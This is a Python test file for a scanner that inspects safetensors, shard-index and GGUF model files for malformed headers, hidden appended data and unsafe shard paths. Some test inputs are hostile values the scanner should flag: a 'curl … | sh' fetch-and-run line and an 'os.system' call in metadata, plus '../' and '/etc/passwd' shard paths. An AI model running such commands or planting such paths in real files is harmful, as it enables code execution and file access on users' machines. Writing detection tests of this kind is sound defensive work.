"""safetensors, their shard index, and GGUF: headers that cannot be, data that hide, paths that leave the folder."""

import json
import struct

import pytest
from format_samples import (
    RELAXED,
    ask,
    blob,
    detector,
    everything,
    gguf,
    gguf_template,
    rules,
    safetensors,
    text_value,
)
from hypothesis import given
from hypothesis import strategies as st

from probe.scan.detector import Blob, Budget


def entry(begin=0, end=8, shape=(2,), dtype="F32"):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def test_a_file_written_by_the_library_is_clean(tmp_path):
    numpy = pytest.importorskip("safetensors.numpy", reason="needs the probe extra")
    import numpy as np

    arrays = {
        "a": np.zeros((3, 4), "float32"),
        "b": np.zeros((0, 4), "float16"),
        "c": np.ones(5, "int64"),
        "d": np.zeros((), "uint8"),
        "e": np.zeros(3, "bool"),
    }
    path = tmp_path / "model.safetensors"
    numpy.save_file(arrays, path, metadata={"format": "pt", "note": "see https://example.org; do not execute (code)"})
    assert everything(path.read_bytes(), "model.safetensors") == []


@pytest.mark.parametrize(
    ("header", "data", "expected"),
    [
        ({}, b"", []),
        ({"w": entry()}, bytes(8), []),
        ({"w": entry(), "v": entry(8, 10, (2, 2), "F4")}, bytes(10), []),
        ({"w": entry()}, bytes(16), ["safetensors-tail"]),
        ({"w": entry()}, bytes(4), ["safetensors-truncated"]),
        ({"w": entry(4, 12)}, bytes(12), ["safetensors-layout"]),
        ({"w": entry(), "v": entry(4, 12)}, bytes(12), ["safetensors-layout"]),
        ({"w": entry(), "v": entry(16, 24)}, bytes(24), ["safetensors-layout"]),
        ({"w": entry(shape=(3,))}, bytes(8), ["safetensors-layout"]),
        ({"w": entry(8, 0)}, bytes(8), ["safetensors-layout"]),
        ({"w": entry(shape=(-2,))}, bytes(8), ["safetensors-layout"]),
        ({"w": entry(shape=(1 << 62, 1 << 62))}, bytes(8), ["safetensors-layout"]),
        ({"w": entry(0, 1e3)}, bytes(8), ["safetensors-layout"]),
        ({"w": {"dtype": "F32"}}, bytes(8), ["safetensors-layout"]),
        ({"w": 3}, bytes(8), ["safetensors-layout"]),
        ({"w": entry(dtype="Q7")}, bytes(8), ["safetensors-dtype"]),
        ({"w": entry(dtype=["F32"])}, bytes(8), ["safetensors-layout"]),
        ({"__metadata__": {"a": 1}, "w": entry()}, bytes(8), ["safetensors-metadata"]),
        ({"__metadata__": ["a"], "w": entry()}, bytes(8), ["safetensors-metadata"]),
        ({"__metadata__": {"a": "import os; os.system('x')"}}, b"", ["safetensors-metadata-code"]),
        ({"__metadata__": {"a": "curl -s -L https://example.org/x | sh"}}, b"", ["safetensors-metadata-code"]),
        (
            {"__metadata__": {"license": "mit", "url": "https://example.org", "ss_tag": json.dumps({"eval": 3})}},
            b"",
            [],
        ),
        (b'{"w":', b"", ["safetensors-header"]),
        (b"[1]", b"", []),
        (b'{"a":' * 50_000, b"", ["safetensors-header"]),
    ],
)
def test_headers_and_layout(header, data, expected):
    assert rules("safetensors", safetensors(header, data)) == expected


@pytest.mark.parametrize("size", [1 << 20, 100_000_001, 10 << 30, (1 << 63) + 5, (1 << 64) - 1])
def test_a_header_longer_than_can_be(size):
    assert rules("safetensors", safetensors({"w": entry()}, bytes(8), size)) == ["safetensors-header"]


def test_a_name_that_stands_twice():
    one = json.dumps(entry())
    assert rules("safetensors", safetensors(f'{{"w":{one},"w":{one}}}'.encode(), bytes(8))) == [
        "safetensors-duplicate"
    ]


def test_what_stands_behind_the_end_is_handed_on():
    data = safetensors({"w": entry()}, bytes(8) + b"PK\x03\x04 hidden")
    packed = [found for found in ask("safetensors", data) if isinstance(found, Blob)]
    assert [bytes(one.data) for one in packed] == [b"PK\x03\x04 hidden"]


@RELAXED
@given(st.lists(st.tuples(st.text(max_size=8), st.integers(0, 9)), max_size=8, unique_by=lambda pair: pair[0]))
def test_any_honest_layout_is_clean(tensors):
    header, at = {}, 0
    for name, count in tensors:
        if name == "__metadata__":
            continue
        header[name] = entry(at, at + 4 * count, (count,))
        at += 4 * count
    assert rules("safetensors", safetensors(header, bytes(at))) == []


@RELAXED
@given(st.binary(min_size=1, max_size=40), st.integers(0, 150))
def test_a_changed_header_is_reported_or_harmless(patch, at):
    """Harmless: the format's own library opens it."""
    library = pytest.importorskip("safetensors", reason="needs the probe extra")
    data = bytearray(safetensors({"w": entry(), "v": entry(8, 16)}, bytes(16)))
    data[at : at + len(patch)] = patch
    if not ask("safetensors", bytes(data)) and detector("safetensors").applies(blob(bytes(data), "specimen")):
        assert len(library.deserialize(bytes(data))) <= 2


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("model-00001-of-00002.safetensors", []),
        ("sub/part.bin", []),
        ("../x.bin", ["shard-path"]),
        ("/etc/passwd", ["shard-path"]),
        ("https://example.org/x.bin", ["shard-path"]),
        (7, ["shard-index"]),
    ],
)
def test_shards(name, expected):
    assert everything({"metadata": {"total_size": 8}, "weight_map": {"a": "model.bin", "b": name}}) == expected


# --- GGUF ---------------------------------------------------------------------------------------------------------

NAME = ("general.name", 8, text_value(b"m"))


def array(kind, count, body=b""):
    return struct.pack("<IQ", kind, count) + body


def test_gguf_that_is_sound():
    tokens = b"".join(text_value(word) for word in (b"a", b"{{", b"}}", b"__class__"))
    pairs = [NAME, ("tokenizer.ggml.tokens", 9, array(8, 4, tokens)), ("x.scores", 9, array(6, 2, bytes(8)))]
    for version in (2, 3):
        assert everything(gguf(pairs, [("a", (32, 2), 0, 0), ("b", (32,), 8, 256)], bytes(290), version)) == []
    assert everything(gguf_template("{{ messages }}")) == []
    assert everything(gguf()) == []


@pytest.mark.parametrize(
    ("specimen", "expected"),
    [
        (gguf([NAME], count=1 << 60), "gguf-header"),
        (gguf([NAME], pair_count=1 << 60), "gguf-header"),
        (gguf([("k", 8, struct.pack("<Q", 10 << 30))]), "gguf-header"),
        (gguf([("k", 8, struct.pack("<Q", (1 << 64) - 8))]), "gguf-header"),
        (gguf([("k", 9, array(4, 1 << 62))]), "gguf-header"),
        (gguf([("k", 9, array(8, 1 << 40))]), "gguf-header"),
        (gguf([("k", 9, array(9, 1, array(9, 1, array(9, 1, array(9, 1, array(4, 0))))))]), "gguf-header"),
        (gguf([("k", 77, b"")]), "gguf-header"),
        (gguf([NAME], version=99), "gguf-header"),
        (gguf([("general.alignment", 4, struct.pack("<I", 3))]), "gguf-header"),
        (gguf([("general.alignment", 4, bytes(4))]), "gguf-header"),
        (gguf([NAME, NAME]), "gguf-duplicate"),
        (gguf([], [("a", (1, 2, 3, 4, 5), 0, 0)]), "gguf-header"),
        (gguf([], [("a", (1 << 32, 1 << 32), 0, 0)]), "gguf-tensor"),
        (gguf([], [("a", (32,), 0, 1)], bytes(256)), "gguf-tensor"),
        (gguf([], [("a", (32,), 0, 0), ("b", (32,), 0, 32)], bytes(256)), "gguf-tensor"),
        (gguf([], [("a", (32,), 0, 0), ("a", (32,), 0, 128)], bytes(256)), "gguf-duplicate"),
        (gguf([], [("a", (64,), 0, 1 << 40)], bytes(256)), "gguf-truncated"),
        (gguf([], [("a", (32,), 50, 0)], bytes(256)), "gguf-unknown-type"),
        (b"GGUF", "gguf-header"),
        (b"GGUF\x03\0\0\0", "gguf-header"),
    ],
)
def test_gguf_that_is_not(specimen, expected):
    assert expected in rules("gguf", specimen)


def test_a_long_vocabulary_takes_little_time():
    words = b"".join(text_value(b"token%d" % index) for index in range(200_000))
    data = gguf([("tokenizer.ggml.tokens", 9, array(8, 200_000, words))])
    which, asked = detector("gguf"), blob(data)
    assert list(which.inspect(asked, Budget(seconds=60))) == []
